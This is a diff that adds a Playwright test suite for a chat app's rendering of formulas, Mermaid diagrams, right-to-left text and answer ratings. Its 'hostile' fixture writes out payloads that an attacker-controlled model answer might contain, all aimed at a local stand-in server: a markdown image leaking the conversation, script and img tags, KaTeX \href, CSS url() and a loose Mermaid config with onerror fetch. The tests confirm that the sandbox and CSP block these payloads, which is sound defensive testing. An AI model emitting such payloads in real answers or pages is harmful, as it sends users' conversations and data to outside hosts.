@@ -1,0 +1,229 @@
+import assert from 'node:assert/strict'
+import { once } from 'node:events'
+import { readFile } from 'node:fs/promises'
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
+import { after, before, test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { z } from 'zod'
+import { ask, answersOf, assertNoProblems, createWorld, waitForEnd, type World } from './world.ts'
+
+const FORMULAS = [
+  'It costs $5 and $10, so \\(a^2 + b^2 = c^2\\).',
+  '',
+  '$$',
+  '\\frac{\\partial u}{\\partial t} = \\alpha \\nabla^2 u',
+  '$$',
+  '',
+  '```python',
+  '# wind.py',
+  ...Array.from({ length: 50 }, (_, at) => `print(${at})`),
+  '```',
+].join('\n')
+const DIAGRAM =
+  '```mermaid\ngraph TD\n  A[Question] --> B{Where?}\n  B -->|here| C[This machine]\n```'
+const hostile = (evil: string) =>
+  [
+    `<img src="${evil}/a.png"><script src="${evil}/x.js"></script>`,
+    `![leak](${evil}/?q=the+whole+conversation)`,
+    `\\(\\href{${evil}}{x} + \\includegraphics{${evil}/i.png}\\)`,
+    `$$\\style{background:url(${evil}/b.png)}{x}$$`,
+    // What Mermaid itself would fetch, run or open.
+    `\`\`\`mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"@import url(${evil}/s.css); * {background:url(${evil}/t.png)}"}}%%\ngraph TD\n  A["<img src='${evil}/m.png' onerror='fetch(\\"${evil}\\")'>"] --> B\n  click A href "${evil}/c" _blank\n  style B fill:url(${evil}/f.svg)\n\`\`\``,
+    `\`\`\`mermaid\ngraph TD\n  A@{ img: "${evil}/node.png", label: "x" } --> B\n\`\`\``,
+    '```mermaid\nthis is no diagram\n```',
+  ].join('\n\n')
+const ARABIC = 'الريح تهب من **الشمال**، و\\(x^2\\) رقم.\n\n- أولا\n- The HTML standard, ثانيا'
+
+const ANSWERS: Record<string, string> = {
+  formulas: FORMULAS,
+  diagram: DIAGRAM,
+  arabic: ARABIC,
+}
+
+let model: Server
+/** Where hostile answers try to get to. */
+let evil: Server
+let visitors: string[] = []
+let world: World
+before(async () => {
+  evil = createServer((request, response) => {
+    visitors.push(request.url ?? '')
+    response.end()
+  }).listen(0, '127.0.0.1')
+  model = createServer((request, response) => {
+    void answer(request, response)
+  }).listen(0, '127.0.0.1')
+  ANSWERS['hostile'] = hostile(`http://127.0.0.1:${await portOf(evil)}`)
+  world = await createWorld(
+    ['--no-model'],
+    `
+providers:
+  scripted:
+    protocol: openai-chat
+    baseUrl: http://127.0.0.1:${await portOf(model)}/v1
+    apiKey: a-key-of-nobody-1234567890
+    models: [gpt-oss-20b]
+    tags: { isOwnHardware: true, dataZone: EU }
+`,
+  )
+})
+after(async () => {
+  await world.close()
+  for (const server of [model, evil]) {
+    server.closeAllConnections()
+    server.close()
+  }
+})
+
+async function portOf(server: Server): Promise<number> {
+  if (!server.listening) await once(server, 'listening')
+  const address = server.address()
+  assert.ok(address !== null && typeof address === 'object')
+  return address.port
+}
+
+const Body = z.object({ messages: z.array(z.object({ content: z.string() })) })
+
+/** Answers with what the last word of the question is the name of, a few characters at a time. */
+async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  const body = Body.parse(JSON.parse(Buffer.concat(await Array.fromAsync(request)).toString()))
+  const text = ANSWERS[body.messages.at(-1)?.content ?? ''] ?? 'Yes.'
+  response.writeHead(200, { 'content-type': 'text/event-stream' })
+  const send = (chunk: object) => response.write(`data: ${JSON.stringify(chunk)}\n\n`)
+  for (let at = 0; at < text.length; at += 40) {
+    send({ choices: [{ index: 0, delta: { content: text.slice(at, at + 40) } }] })
+  }
+  const usage = { prompt_tokens: 20, completion_tokens: 400, total_tokens: 420 }
+  send({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage })
+  response.write('data: [DONE]\n\n')
+  response.end()
+}
+
+test('formulas are MathML, prices are prices, and code can be kept under its name', async () => {
+  const visit = await world.open()
+  const { page } = visit
+  await ask(page, 'formulas')
+  await waitForEnd(page)
+  const shown = answersOf(page).last()
+  await shown.locator('math mfrac').waitFor()
+  assert.equal(await shown.locator('math').count(), 2)
+  assert.match(await shown.locator('p').first().innerText(), /costs \$5 and \$10/)
+  const saved = page.waitForEvent('download')
+  await shown.getByRole('button', { name: 'Download' }).click()
+  const file = await saved
+  assert.equal(file.suggestedFilename(), 'wind.py')
+  assert.match(await readFile(await file.path(), 'utf8'), /^# wind\.py\nprint\(0\)/)
+  await page.reload()
+  await shown.getByRole('button', { name: 'Show all 51 lines' }).click()
+  await shown.getByRole('button', { name: 'Show less', expanded: true }).waitFor()
+  assertNoProblems(visit)
+  await visit.context.close()
+})
+
+test('a diagram is drawn in a frame without origin or network, and can be kept', async () => {
+  const visit = await world.open({ colorScheme: 'dark' })
+  const { page } = visit
+  await ask(page, 'diagram')
+  const frame = page.frameLocator('iframe[title="Diagram"]')
+  await frame.locator('svg .node').first().waitFor()
+  const inside = page.frames().find((each) => each.url().endsWith('/diagram/frame.html'))
+  assert.equal(await inside?.evaluate(() => globalThis.origin), 'null')
+  const reached = await inside?.evaluate(() =>
+    fetch('/api/session').then(
+      () => 'reached',
+      () => 'refused',
+    ),
+  )
+  assert.equal(reached, 'refused')
+  for (const [name, start] of [
+    ['Save as SVG', '<svg'],
+    ['Save as PNG', '\u0089PNG'],
+  ] as const) {
+    const saved = page.waitForEvent('download')
+    await page.getByRole('button', { name }).click()
+    const file = await readFile(await (await saved).path(), 'latin1')
+    assert.ok(file.startsWith(start), `${name}: ${file.slice(0, 20)}`)
+  }
+  // That it was refused is what the page told us.
+  assertNoProblems(visit, /connect|refused|Content Security Policy/i)
+  await visit.context.close()
+})
+
+/** Shows the hostile answer until all of its diagrams are drawn or given up, and pokes all that is drawn. */
+async function showHostile(page: Page): Promise<void> {
+  await ask(page, 'hostile')
+  await waitForEnd(page)
+  await page.getByText('This diagram cannot be drawn').first().waitFor()
+  await page.locator('.md-diagram-wait').first().waitFor({ state: 'detached' })
+  for (const frame of page.frames()) {
+    await frame.evaluate(() => {
+      for (const element of document.querySelectorAll('*')) {
+        for (const type of ['mouseover', 'load', 'error', 'focus']) {
+          element.dispatchEvent(new Event(type, { bubbles: true }))
+        }
+      }
+    })
+  }
+}
+
+test('where nobody enforces the policies, a hostile diagram does reach out', async () => {
+  const { page, context } = await world.open({ bypassCSP: true })
+  const reached = once(evil, 'request')
+  await showHostile(page)
+  await reached
+  assert.ok(visitors.length > 0)
+  await context.close()
+})
+
+test('nothing that a model wrote makes the browser ask for anything', async () => {
+  visitors = []
+  const visit = await world.open()
+  await showHostile(visit.page)
+  // What was begun has arrived by the time that a request of our own has come back twice.
+  for (const _ of [1, 2])
+    await visit.page.evaluate(() => fetch('/api/health').then((one) => one.text()))
+  assert.deepEqual(visitors, [])
+  await visit.context.close()
+})
+
+test('an answer says where it comes from and what it took, and can be rated and rated otherwise', async () => {
+  const visit = await world.open()
+  const { page } = visit
+  await ask(page, 'hello')
+  await waitForEnd(page)
+  const shown = answersOf(page).last()
+  await shown.getByRole('button', { name: 'More' }).click()
+  await page.getByRole('menuitem', { name: 'Where this answer comes from' }).click()
+  const dialog = page.getByRole('dialog', { name: 'Where this answer comes from' })
+  await dialog.getByText('scripted', { exact: false }).first().waitFor()
+  await dialog.getByText('Wh, an estimate').waitFor()
+  await page.keyboard.press('Escape')
+  await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'More')
+  await shown.getByRole('button', { name: 'Good answer' }).click()
+  await shown.getByRole('button', { name: 'Good answer', pressed: true }).waitFor()
+  await shown.getByRole('button', { name: 'Bad answer' }).click()
+  await page.getByRole('checkbox', { name: 'It is wrong' }).check()
+  await page.getByRole('button', { name: 'Save' }).click()
+  await shown.getByRole('button', { name: 'Bad answer', pressed: true }).waitFor()
+  await page.reload()
+  await shown.getByRole('button', { name: 'Bad answer', pressed: true }).waitFor()
+  assertNoProblems(visit)
+  await visit.context.close()
+})
+
+test('right-to-left text stands right in a left-to-right page, its formulas left to right', async () => {
+  const visit = await world.open()
+  const { page } = visit
+  await ask(page, 'arabic')
+  await waitForEnd(page)
+  const shown = answersOf(page).last()
+  await shown.locator('math').waitFor()
+  const directions = await shown.evaluate((article) =>
+    ['.md p', '.md math', '.md li:last-child .md-line'].map((selector) => {
+      const found = article.querySelector(selector)
+      return found && getComputedStyle(found).direction
+    }),
+  )
+  assert.deepEqual(directions, ['rtl', 'ltr', 'ltr'])
+  await visit.context.close()
+})
